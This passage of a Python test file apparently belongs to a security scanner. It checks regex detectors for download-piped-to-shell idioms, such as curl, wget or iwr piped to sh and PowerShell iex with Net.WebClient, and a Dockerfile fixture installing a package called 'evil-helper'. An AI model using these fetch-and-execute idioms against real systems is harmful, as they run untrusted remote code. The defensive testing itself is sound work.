        unreadable = hits(report, "dependency/unreadable-manifest")
        assert [f["path"] for f in unreadable] == ["setup.py"], label
        why = unreadable[0]["details"]["problem"]
        assert why == ("setup.py: too deeply nested to read" if label == "deep"
                       else "setup.py: cannot parse: too complex for the Python parser"), (label, why)


def test_download_piped_to_a_shell_is_found_in_linear_time():
    """_pipe_to_shell on 200,000-char lines (each was seconds to minutes
    when one regex was searched: many fetch words before one pipe, `-x.`
    options, blanks after iex, `a=a=...` after env), and the same match as
    the four original patterns on random lines."""
    import random
    import re

    with deadline():
        n = 200_000
        assert sources._pipe_to_shell(("curl " * n)[:n]) == ""
        assert sources._pipe_to_shell(("iwr " * n)[:n] + "| sh") == ("iwr " * n)[:n] + "| sh"
        assert sources._pipe_to_shell("curl " + ("-x. " * n)[:n] + "y") == ""
        assert sources._pipe_to_shell("curl iex" + " " * n + "x") == ""
        assert sources._pipe_to_shell("curl iex" + " " * n + "(iwr") == "iex" + " " * n + "(iwr"
        assert sources._pipe_to_shell("curl x | env " + ("a=" * n)[:n]) == ""
        assert sources._pipe_to_shell("curl x | env" + " a=b" * (n // 4) + " sh") == "curl x | env" + " a=b" * (n // 4) + " sh"

    fetch, shells = sources._FETCH, sources._SHELLS
    old = (
        re.compile(fetch + r"\b[^|;&\n]*\|\s*(?:sudo\b(?:\s+-\S+)*\s+)?(?:env\b(?:\s+\S+=\S*)*\s+)?"
                   r"(?:/usr/bin/|/bin/|/usr/local/bin/)?" + shells + r"\b(?![.-])(?!\s+-[cmeE]\b)", re.I),
        re.compile(r"\b(?:(?:ba|z|k)?sh|source|\.)\s+(?:-\S+\s+)*<\(\s*" + fetch + r"\b", re.I),
        re.compile(r"\b(?:(?:ba|z|k)?sh\s+-c|eval)\s+[\"']?(?:\$\(|`)\s*" + fetch + r"\b", re.I),
        re.compile(r"\b(?:iex|Invoke-Expression)\s*\(?\s*(?:\(\s*)?(?:" + fetch + r"|New-Object\s+Net\.WebClient)",
                   re.I),
    )

    def before(text):
        if not sources._FETCH_HINT.search(text):
            return ""
        return next((m.group(0) for m in (rx.search(text) for rx in old) if m), "")

    pieces = (
        ["sh", "bash", ".", "source", "x.", " ", "  ", "-a", "-x.", "<(", "curl", "wget", "iwr", "x", "-", "\t", "(",
         "<", "-<(", "ksh", "sh."],
        ["curl", "x", " ", "|", " ", "sudo", "-E", "env", "A=1", "a=b=", "=", "x=", "sh", "bash", "/bin/", "-c", "-e",
         "sh.", "\n", ";", "&", "--", "python3", "Invoke-WebRequest"],
        ["iex", "Invoke-Expression", " ", "(", "  (", "curl", "iwr", "New-Object", "Net.WebClient", "x", "sh -c", "eval",
         "$(", "`", "'", '"', "FETCH"],
    )
    rnd = random.Random(11)
    found = 0
    for i in range(60_000):
        text = "".join(rnd.choice(pieces[i % 3]) for _ in range(rnd.randint(1, 12)))
        assert sources._pipe_to_shell(text) == before(text), repr(text)
        found += bool(before(text))
    assert found > 1000


def test_dockerfile_run_nested_past_the_stack_and_long_flag_lists(tmp_path):
    """RUN [[[[... (json.loads raises RecursionError) is read as shell text,
    not a failed run; leading --flags are dropped as before, in linear time."""
    import random
    import time

    from conftest import run_cli

    for line in ("RUN " + "[" * 20_000, "RUN " + "[" * 900 + "]" * 900):
        body = ["FROM python:3.12", line, "RUN pip install evil-helper"]
        (tmp_path / "p.diff").write_text(
            "diff --git a/Dockerfile b/Dockerfile\nnew file mode 100644\n--- /dev/null\n+++ b/Dockerfile\n"
            f"@@ -0,0 +1,{len(body)} @@\n" + "".join(f"+{x}\n" for x in body))
        res = run_cli(["check", "--format", "json", "--no-llm", "--diff", str(tmp_path / "p.diff")], cwd=tmp_path)
        assert res.code in (0, 1), res.err
        assert at(res.json(), "dependency/installer-command") == [("Dockerfile", 3)]

    def before(body):
        while body.startswith("--"):
            body = body.split(None, 1)[1] if " " in body else ""
        return body

    rnd = random.Random(3)
    pieces = ["--", "-", "a", " ", "\t", "\x0b", "\x85", "\u2028", "\xa0", "=", "--m=x"]
    for _ in range(50_000):
        body = "".join(rnd.choice(pieces) for _ in range(rnd.randint(0, 10))).strip()
        assert sources._run_flags_dropped(body) == before(body), repr(body)
    flags = "--mount=type=cache " * 20_000
    began = time.perf_counter()
    assert sources._run_flags_dropped(flags + "pip install x") == "pip install x"
    assert time.perf_counter() - began < 1.0
